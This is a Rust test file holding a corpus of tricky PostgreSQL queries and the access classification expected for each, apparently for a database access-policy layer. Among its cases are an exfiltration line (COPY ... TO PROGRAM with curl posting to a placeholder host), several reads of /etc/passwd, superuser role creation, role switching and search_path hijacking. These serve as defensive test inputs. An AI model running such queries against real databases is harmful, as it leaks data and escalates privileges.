//! Classification of a corpus of tricky SQL.
//!
//! Each case is a query string and, statement by statement, its kind and
//! its exact accesses, written compactly: `select public.t` (an op on a
//! relation), `fn nextval` (a function), `cmd do` / `cmd drop public.t`
//! (a command, with its relation if any).

use crate::policy::{Access, Classification, ClassifyError, Op, StatementClass, classify};

type Expected<'a> = &'a [(&'a str, &'a [&'a str])];

fn access(text: &str) -> Access {
    let mut words = text.splitn(3, ' ');
    let (first, second, third) = (words.next().unwrap(), words.next().unwrap(), words.next());
    match first {
        "fn" => Access::Function(second.into()),
        "cmd" => Access::Command {
            name: second.into(),
            relation: third.map(Into::into),
        },
        op => Access::Relation {
            op: Op::from_name(op).unwrap_or_else(|| panic!("bad access {text:?}")),
            relation: second.into(),
        },
    }
}

fn expected(statements: Expected<'_>) -> Classification {
    Classification {
        statements: statements
            .iter()
            .map(|(kind, accesses)| {
                let mut accesses: Vec<Access> = accesses.iter().map(|a| access(a)).collect();
                accesses.sort();
                StatementClass {
                    kind: (*kind).into(),
                    accesses,
                }
            })
            .collect(),
    }
}

const CASES: &[(&str, Expected<'_>)] = &[
    // Empty input.
    ("", &[]),
    (";", &[]),
    ("  -- only a comment\n", &[]),
    // Comments and quoting.
    (
        "SELECT * FROM t -- DELETE FROM x",
        &[("select", &["select public.t"])],
    ),
    (
        "SELECT 1 /* outer /* DROP TABLE x; */ still comment; DELETE FROM y */ FROM t",
        &[("select", &["select public.t"])],
    ),
    (
        "SELECT $$DELETE FROM x$$, $tag$ ; DROP TABLE y; $tag$ FROM t",
        &[("select", &["select public.t"])],
    ),
    (
        "SELECT E'it\\'s; DELETE FROM x' FROM t",
        &[("select", &["select public.t"])],
    ),
    (
        "SELECT * FROM U&\"d\\0061ta\"",
        &[("select", &["select public.data"])],
    ),
    (
        "SELECT * FROM \"Sales\".\"Q1.Orders\"",
        &[("select", &["select Sales.\"Q1.Orders\""])],
    ),
    (
        "SELECT * FROM \"public.secret\".t",
        &[("select", &["select \"public.secret\".t"])],
    ),
    (
        "SELECT * FROM Customers",
        &[("select", &["select public.customers"])],
    ),
    ("SELECT * FROM db.s.t", &[("select", &["select s.t"])]),
    // Multi-statement strings.
    (
        "SELECT 1 FROM a; DELETE FROM b; BEGIN",
        &[
            ("select", &["select public.a"]),
            ("delete", &["delete public.b"]),
            ("begin", &[]),
        ],
    ),
    // Catalogs.
    (
        "SELECT * FROM pg_stat_activity",
        &[("select", &["select pg_catalog.pg_stat_activity"])],
    ),
    (
        "SELECT * FROM information_schema.tables",
        &[("select", &["select information_schema.tables"])],
    ),
    (
        "SELECT * FROM active_customers_view",
        &[("select", &["select public.active_customers_view"])],
    ),
    // CTEs and their scope.
    (
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        &[("select", &["delete public.t", "select public.t"])],
    ),
    (
        "WITH d AS (DELETE FROM t) SELECT 1",
        &[("select", &["delete public.t"])],
    ),
    (
        "WITH customers AS (SELECT * FROM customers) SELECT * FROM customers",
        &[("select", &["select public.customers"])],
    ),
    (
        "WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM b",
        &[("select", &["select public.b"])],
    ),
    (
        "WITH a AS (SELECT 1) SELECT * FROM a, public.a",
        &[("select", &["select public.a"])],
    ),
    (
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r",
        &[("select", &[])],
    ),
    (
        "WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
        &[("select", &[])],
    ),
    (
        "SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x",
        &[("select", &["select public.x"])],
    ),
    (
        "WITH x AS (SELECT 1) SELECT * FROM (SELECT * FROM x) s WHERE EXISTS (SELECT 1 FROM x)",
        &[("select", &[])],
    ),
    (
        "WITH t AS (SELECT 1) INSERT INTO t SELECT * FROM t",
        &[("insert", &["insert public.t"])],
    ),
    (
        "WITH u AS (UPDATE accounts SET n = n + 1 RETURNING id) INSERT INTO log SELECT id FROM u",
        &[(
            "insert",
            &[
                "insert public.log",
                "update public.accounts",
                "select public.accounts",
            ],
        )],
    ),
    // Subqueries, joins, set operations.
    (
        "SELECT (SELECT max(x) FROM a), b.* FROM b WHERE id IN (SELECT id FROM c) \
         GROUP BY 1 HAVING count(*) > (SELECT count(*) FROM d)",
        &[(
            "select",
            &[
                "select public.a",
                "select public.b",
                "select public.c",
                "select public.d",
            ],
        )],
    ),
    (
        "SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN LATERAL (SELECT * FROM c WHERE c.a = a.id) l ON true",
        &[(
            "select",
            &["select public.a", "select public.b", "select public.c"],
        )],
    ),
    (
        "SELECT id FROM a UNION SELECT id FROM b INTERSECT SELECT id FROM s.c EXCEPT TABLE d",
        &[(
            "select",
            &[
                "select public.a",
                "select public.b",
                "select s.c",
                "select public.d",
            ],
        )],
    ),
    (
        "SELECT * FROM accounts a WHERE id = 1 FOR UPDATE OF a",
        &[("select", &["select public.accounts"])],
    ),
    (
        "SELECT * FROM t FOR SHARE",
        &[("select", &["select public.t"])],
    ),
    // DML.
    (
        "INSERT INTO archive SELECT * FROM orders WHERE old",
        &[("insert", &["insert public.archive", "select public.orders"])],
    ),
    (
        "INSERT INTO t (a, b) VALUES (1, 2) ON CONFLICT (a) DO UPDATE SET b = excluded.b",
        &[("insert", &["insert public.t", "update public.t"])],
    ),
    (
        "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING RETURNING id",
        &[("insert", &["insert public.t", "select public.t"])],
    ),
    (
        "UPDATE t SET a = s.a FROM s WHERE t.id = s.id",
        &[("update", &["update public.t", "select public.s"])],
    ),
    (
        "UPDATE t SET a = 1 RETURNING *",
        &[("update", &["update public.t", "select public.t"])],
    ),
    (
        "DELETE FROM t USING u WHERE t.id = u.id AND u.x IN (SELECT x FROM v)",
        &[(
            "delete",
            &["delete public.t", "select public.u", "select public.v"],
        )],
    ),
    (
        "DELETE FROM s.t RETURNING id",
        &[("delete", &["delete s.t", "select s.t"])],
    ),
    (
        "MERGE INTO t USING s ON t.id = s.id \
         WHEN MATCHED AND s.gone THEN DELETE \
         WHEN MATCHED THEN UPDATE SET v = s.v \
         WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)",
        &[(
            "merge",
            &[
                "delete public.t",
                "update public.t",
                "insert public.t",
                "select public.s",
            ],
        )],
    ),
    (
        "MERGE INTO t USING (SELECT * FROM s) src ON t.id = src.id \
         WHEN NOT MATCHED THEN DO NOTHING WHEN MATCHED THEN UPDATE SET v = 1 RETURNING t.id",
        &[(
            "merge",
            &["update public.t", "select public.t", "select public.s"],
        )],
    ),
    // Creating from queries.
    (
        "CREATE TABLE report AS SELECT * FROM orders",
        &[(
            "create_table_as",
            &["cmd create_table_as public.report", "select public.orders"],
        )],
    ),
    (
        "SELECT * INTO new_table FROM orders",
        &[(
            "select",
            &["cmd create_table public.new_table", "select public.orders"],
        )],
    ),
    (
        "CREATE VIEW v AS SELECT * FROM t",
        &[(
            "create_view",
            &["cmd create_view public.v", "select public.t"],
        )],
    ),
    // Wrappers.
    (
        "EXPLAIN ANALYZE DELETE FROM x",
        &[("explain", &["delete public.x"])],
    ),
    (
        "EXPLAIN SELECT * FROM t",
        &[("explain", &["select public.t"])],
    ),
    (
        "PREPARE p (int) AS UPDATE t SET a = $1",
        &[("prepare", &["update public.t"])],
    ),
    ("EXECUTE p(1)", &[("execute", &[])]),
    ("EXECUTE p(nextval('s'))", &[("execute", &["fn nextval"])]),
    (
        "DECLARE c CURSOR FOR SELECT * FROM t",
        &[("declare", &["select public.t"])],
    ),
    ("FETCH 10 FROM c", &[("fetch", &[])]),
    ("MOVE c", &[("move", &[])]),
    ("CLOSE c", &[("close_portal", &[])]),
    // COPY.
    ("COPY t TO STDOUT", &[("copy", &["select public.t"])]),
    (
        "COPY t (a, b) FROM STDIN",
        &[("copy", &["insert public.t"])],
    ),
    (
        "COPY (SELECT * FROM t JOIN u USING (id)) TO STDOUT",
        &[("copy", &["select public.t", "select public.u"])],
    ),
    (
        "COPY t TO PROGRAM 'curl -d @- http://x'",
        &[("copy", &["select public.t", "cmd copy_program"])],
    ),
    (
        "COPY t FROM '/etc/passwd'",
        &[("copy", &["insert public.t", "cmd copy_file"])],
    ),
    (
        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
        &[("copy", &["delete public.t", "select public.t"])],
    ),
    // TRUNCATE, LOCK.
    (
        "TRUNCATE a, s.b",
        &[("truncate", &["truncate public.a", "truncate s.b"])],
    ),
    (
        "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
        &[("lock", &["lock public.t"])],
    ),
    // Commands.
    ("DO $$BEGIN DELETE FROM t; END$$", &[("do", &["cmd do"])]),
    (
        "CALL public.refresh_totals(1)",
        &[("call", &["fn public.refresh_totals"])],
    ),
    (
        "CALL count(nextval('s'))",
        &[("call", &["fn count", "fn nextval"])],
    ),
    ("NOTIFY ch, 'x'", &[("notify", &["cmd notify"])]),
    ("LISTEN ch", &[("listen", &[])]),
    ("CHECKPOINT", &[("checkpoint", &["cmd checkpoint"])]),
    ("VACUUM t", &[("vacuum", &["cmd vacuum public.t"])]),
    ("ANALYZE", &[("analyze", &["cmd analyze"])]),
    (
        "GRANT SELECT ON t TO bob",
        &[("grant", &["cmd grant public.t"])],
    ),
    (
        "REVOKE ALL ON SCHEMA s FROM bob",
        &[("revoke", &["cmd revoke"])],
    ),
    (
        "ALTER SYSTEM SET work_mem = '1GB'",
        &[("alter_system", &["cmd alter_system"])],
    ),
    (
        "CREATE ROLE eve SUPERUSER",
        &[("create_role", &["cmd create_role"])],
    ),
    ("LOAD 'plugin'", &[("load", &["cmd load"])]),
    (
        "CREATE TABLE x (id bigint DEFAULT nextval('x_seq'), name text DEFAULT lower('A'))",
        &[("create_table", &["cmd create_table public.x", "fn nextval"])],
    ),
    (
        "CREATE INDEX i ON s.t (lower(name))",
        &[("create_index", &["cmd create_index s.t"])],
    ),
    (
        "ALTER TABLE t ADD COLUMN c int",
        &[("alter_table", &["cmd alter_table public.t"])],
    ),
    (
        "DROP TABLE a, s.b",
        &[("drop", &["cmd drop public.a", "cmd drop s.b"])],
    ),
    ("DROP FUNCTION f(int)", &[("drop", &["cmd drop"])]),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t; SELECT 1 $$",
        &[("create_function", &["cmd create_function"])],
    ),
    (
        "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM x",
        &[("rule", &["cmd rule public.t", "delete public.x"])],
    ),
    // SET, SHOW, RESET, transactions.
    ("SET ROLE admin", &[("set", &["cmd set_role"])]),
    (
        "SET LOCAL \"ROLE\" = 'admin'",
        &[("set", &["cmd set_role"])],
    ),
    ("RESET ROLE", &[("reset", &["cmd set_role"])]),
    (
        "SET SESSION AUTHORIZATION 'postgres'",
        &[("set", &["cmd set_session_authorization"])],
    ),
    (
        "SET search_path TO evil, public",
        &[("set", &["cmd set_search_path"])],
    ),
    ("SET statement_timeout = '5s'", &[("set", &[])]),
    ("SET TIME ZONE 'UTC'", &[("set", &[])]),
    (
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        &[("set", &[])],
    ),
    ("SHOW search_path", &[("show", &[])]),
    ("RESET statement_timeout", &[("reset", &[])]),
    ("RESET ALL", &[("reset", &[])]),
    ("DISCARD ALL", &[("discard", &[])]),
    ("DEALLOCATE ALL", &[("deallocate", &[])]),
    (
        "BEGIN; SAVEPOINT s; ROLLBACK TO SAVEPOINT s; RELEASE s; COMMIT",
        &[
            ("begin", &[]),
            ("savepoint", &[]),
            ("rollback_to", &[]),
            ("release", &[]),
            ("commit", &[]),
        ],
    ),
    (
        "START TRANSACTION READ ONLY; ROLLBACK",
        &[("start", &[]), ("rollback", &[])],
    ),
    // Functions.
    (
        "SELECT nextval('s'), set_config('role', 'admin', false)",
        &[("select", &["fn nextval", "fn set_config"])],
    ),
    (
        "SELECT pg_read_file('/etc/passwd')",
        &[("select", &["fn pg_read_file"])],
    ),
    (
        "SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')",
        &[("select", &["fn query_to_xml"])],
    ),
    (
        "SELECT pg_catalog.set_config('search_path', 'evil', false)",
        &[("select", &["fn pg_catalog.set_config"])],
    ),
    (
        "SELECT count(*), lower(name), now(), pg_catalog.lower(name) FROM t",
        &[("select", &["select public.t"])],
    ),
    (
        "SELECT public.lower(name) FROM t",
        &[("select", &["fn public.lower", "select public.t"])],
    ),
    (
        "SELECT \"LOWER\"(name) FROM t",
        &[("select", &["fn LOWER", "select public.t"])],
    ),
    (
        "SELECT coalesce(a, b), greatest(1, 2), nullif(a, b), trim(a), extract(year FROM now()), \
         substring(a FROM 2), a AT TIME ZONE 'UTC' FROM t",
        &[("select", &["select public.t"])],
    ),
    (
        "SELECT * FROM generate_series(1, 3) g, dblink('host=x', 'SELECT 1') AS d(x int)",
        &[("select", &["fn dblink"])],
    ),
    (
        "SELECT * FROM t WHERE id = ANY (SELECT refresh(id) FROM u)",
        &[(
            "select",
            &["fn refresh", "select public.t", "select public.u"],
        )],
    ),
    (
        "SELECT sum(x) FILTER (WHERE audit(x)) OVER (PARTITION BY y) FROM t",
        &[("select", &["fn audit", "select public.t"])],
    ),
    // More shapes.
    ("TABLE t", &[("select", &["select public.t"])]),
    ("VALUES (1), (2)", &[("select", &[])]),
    (
        "INSERT INTO t DEFAULT VALUES",
        &[("insert", &["insert public.t"])],
    ),
    (
        "SELECT * FROM ROWS FROM (generate_series(1, 2), side_effect()) AS r",
        &[("select", &["fn side_effect"])],
    ),
    (
        "CREATE TABLE x (a int REFERENCES y)",
        &[(
            "create_table",
            &["cmd create_table public.x", "cmd create_table public.y"],
        )],
    ),
    (
        "CREATE MATERIALIZED VIEW mv AS SELECT * FROM t",
        &[(
            "create_table_as",
            &["cmd create_table_as public.mv", "select public.t"],
        )],
    ),
    (
        "REFRESH MATERIALIZED VIEW mv",
        &[("refresh_mat_view", &["cmd refresh_mat_view public.mv"])],
    ),
    (
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END",
        &[(
            "create_function",
            &["cmd create_function", "delete public.t"],
        )],
    ),
    ("SELECT pg_sleep(1), pg_backend_pid()", &[("select", &[])]),
    (
        "SELECT lo_import('/etc/passwd'), pg_advisory_lock(1)",
        &[("select", &["fn lo_import", "fn pg_advisory_lock"])],
    ),
];

#[test]
fn corpus() {
    assert!(CASES.len() >= 60);
    let mut failures = Vec::new();
    for (sql, want) in CASES {
        let got = classify(sql);
        let want = expected(want);
        if got.as_ref() != Ok(&want) {
            failures.push(format!("{sql}\n  got  {got:?}\n  want {want:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn syntax_errors() {
    for sql in [
        "SELEC 1",
        "SELECT * FROM",
        "SELECT 'unterminated",
        "SELECT 1 /* unterminated comment",
        "DELETE FROM t WHERE",
        "SELECT 1; DROP",
        "SELECT \0",
    ] {
        assert!(
            matches!(classify(sql), Err(ClassifyError::Syntax(_))),
            "{sql:?} gave {:?}",
            classify(sql)
        );
    }
}

#[test]
fn deep_nesting_is_refused_or_read_never_a_crash() {
    for depth in (1..120).chain([1_000, 10_000]) {
        for (open, close) in [
            ("(", ")"),
            ("ARRAY[", "]"),
            ("(SELECT ", ")"),
            ("abs(", ")"),
        ] {
            let sql = format!(
                "SELECT {}1{} FROM t",
                open.repeat(depth),
                close.repeat(depth)
            );
            match classify(&sql) {
                Ok(c) => assert_eq!(c.statements.len(), 1),
                Err(ClassifyError::Syntax(_) | ClassifyError::Unreadable(_)) => {}
            }
        }
    }
    let sql = format!("SELECT 1{}", " + 1".repeat(50_000));
    assert!(classify(&sql).is_err() || classify(&sql).is_ok());
}

/// The corpus cut and spliced at random (a fixed seed): never a panic,
/// accesses always sorted and unique, and the cache agrees with a direct
/// classification.
#[test]
fn mutated_corpus() {
    use rand::{Rng, SeedableRng, rngs::StdRng};

    let cache = crate::policy::ClassifierCache::new(256);
    let mut rng = StdRng::seed_from_u64(7);
    let mut parsed = 0;
    for _ in 0..10_000 {
        let (a, _) = CASES[rng.gen_range(0..CASES.len())];
        let (b, _) = CASES[rng.gen_range(0..CASES.len())];
        let cut = |s: &str, rng: &mut StdRng| {
            let at = rng.gen_range(0..=s.len());
            (0..=at).rev().find(|&i| s.is_char_boundary(i)).unwrap_or(0)
        };
        let (i, j) = (cut(a, &mut rng), cut(b, &mut rng));
        let sql = format!("{}{}", &a[..i], &b[j..]);
        let direct = classify(&sql);
        if let Ok(c) = &direct {
            parsed += 1;
            for st in &c.statements {
                assert!(st.accesses.windows(2).all(|w| w[0] < w[1]), "{sql}");
            }
        }
        if let (Ok(d), Ok(c)) = (&direct, &*cache.classify(&sql)) {
            assert_eq!(d, c, "{sql}");
        }
    }
    assert!(parsed > 500, "only {parsed} of the mutants parsed");
}
